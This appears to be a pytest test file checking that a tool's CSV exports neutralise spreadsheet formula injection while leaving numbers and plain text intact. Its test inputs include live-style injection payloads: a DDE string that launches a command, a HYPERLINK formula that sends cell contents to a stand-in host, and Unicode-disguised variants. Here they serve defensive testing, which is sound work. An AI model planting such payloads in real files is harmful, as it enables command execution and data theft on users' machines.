"""Every CSV file that the program writes: no cell starts a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

import workbench
from workbench.answers.common.document import to_csv
from workbench.cli import main
from workbench.csv_files import csv_text, safe_cell
from workbench.study.anonymising.pseudonyms import Pseudonyms, write_key

FORMULAS = (
    '=HYPERLINK("http://x/"&A1,"x")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1",
    '"=1',
    '" +1+1',
    "\u00a0@x",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠x",
)
PLAIN = ("MCS", "a=b", "MCSIO 512 MB", "% Processor Time", "'=1", "-", "x-1", '"quoted"', "  two")


def _lines(path: Path) -> io.StringIO:
    return io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")


@pytest.mark.parametrize("text", FORMULAS)
def test_that_a_cell_never_starts_a_formula(text: str) -> None:
    assert str(safe_cell(text)).startswith("'")
    for written in (csv_text([[text]]), to_csv([{"a": text}])):
        assert {row[0][:1] for row in csv.reader(io.StringIO(written, newline="")) if row[0] != "a"} == {"'"}


@pytest.mark.parametrize("text", PLAIN)
def test_that_other_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == (text if text != "-" else "'-")


@pytest.mark.parametrize("value", [-1, -0.5, 0, 3.25, "-1", "-2e3", "+4", " -7", True])
def test_that_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


def test_that_escaping_a_cell_twice_changes_nothing() -> None:
    assert all(safe_cell(safe_cell(text)) == safe_cell(text) for text in (*FORMULAS, *PLAIN))


def test_that_the_run_plan_of_a_kit_has_no_formula(tmp_path: Path) -> None:
    formulas = ("=1+1", "@SUM(1)", "+1+1", "-2+3", "\\t=1")
    for index, formula in enumerate(formulas):
        run = tmp_path / "study" / f"run-{index}"
        run.mkdir(parents=True)
        (run / "run.toml").write_text(f'configuration = "{formula}"\nprovisioning = "MCS"\n')
        rows = "".join(f'"05/10/2016 09:0{minute}:00.000","{minute}"\n' for minute in range(4))
        head = '"(PDH-CSV 4.0) (GMT)(0)","\\\\VM\\PhysicalDisk(_Total)\\Disk Reads/sec"\n'
        (run / "VM.csv").write_text(head + rows)
    assert main(["kit", str(tmp_path / "study"), "-o", str(tmp_path / "kit")]) == 0
    rows = list(csv.DictReader(_lines(tmp_path / "kit" / "run-plan.csv")))
    assert {row["configuration"][:1] for row in rows} == {"'"}
    assert len({row["configuration"] for row in rows}) == len(formulas)


def test_that_the_key_of_an_anonymised_export_has_no_formula(tmp_path: Path) -> None:
    names = Pseudonyms(machines={"=vm+1": "VM-1"}, users={"@user": "user-1", "plain": "user-2"})
    write_key(tmp_path / "key.csv", names)
    rows = list(csv.reader(_lines(tmp_path / "key.csv")))
    assert dict(rows[1:]) == {"VM-1": "'=vm+1", "user-1": "'@user", "user-2": "plain"}


def test_that_no_other_module_writes_csv() -> None:
    root = Path(workbench.__file__).parent
    writers = ("csv.writer", "csv.DictWriter", "write_csv(", "sink_csv(")
    found = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if any(writer in path.read_text(encoding="utf-8") for writer in writers)
    }
    # Samples are written row by row by polars, their words by `safe_cell`.
    assert found == {"csv_files.py", "exporters/data/files.py"}
